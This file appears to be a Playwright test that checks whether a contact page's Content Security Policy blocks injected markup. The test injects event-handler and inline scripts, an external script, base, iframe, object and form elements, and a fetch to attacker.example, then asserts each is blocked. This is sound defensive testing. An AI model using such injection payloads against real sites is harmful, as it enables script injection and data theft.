import { expect, test } from './fixtures.ts'

test.use({ expectedErrors: [/Content Security Policy|attacker\.example/] })

test('a page runs no code, loads nothing and sends nothing for markup that was injected into it', async ({
  page,
}) => {
  const blocked: string[] = []
  page.on('console', (message) => blocked.push(message.text()))
  const expectBlocked = (text: string) =>
    expect.poll(() => blocked.filter((line) => line.includes(text)), { message: text }).not.toEqual([])

  await page.goto('/contact')
  // Waits until the app has taken over the page, because it could replace the injected markup before.
  await page.getByRole('button', { name: 'Send message' }).click()
  await expect(page.getByText('Name is required')).toBeVisible()
  await page.evaluate(() => {
    const harm = `document.documentElement.dataset.harmed = 'yes'`
    const markup = document.createElement('div')
    markup.innerHTML = `<img src="data:," onerror="${harm}">
      <img src="https://attacker.example/pixel.png">
      <iframe src="https://attacker.example/"></iframe>
      <object data="https://attacker.example/"></object>`
    const inline = document.createElement('script')
    inline.textContent = harm
    const external = document.createElement('script')
    external.src = 'https://attacker.example/x.js'
    const base = document.createElement('base')
    base.href = 'https://attacker.example/'
    document.body.append(markup, inline, external)
    document.head.prepend(base)
    void fetch('https://attacker.example/?key=x').catch(() => undefined)
  })
  for (const text of ['inline event handler', 'inline script', 'base-uri', 'connect-src', 'img-src'])
    await expectBlocked(text)
  for (const text of ['x.js', 'frame-src', 'object-src']) await expectBlocked(text)
  await expect(page.locator('html')).not.toHaveAttribute('data-harmed')

  await page.evaluate(() => {
    const form = document.createElement('form')
    form.action = 'https://attacker.example/'
    document.body.append(form)
    form.requestSubmit()
  })
  await expectBlocked('form-action')
})
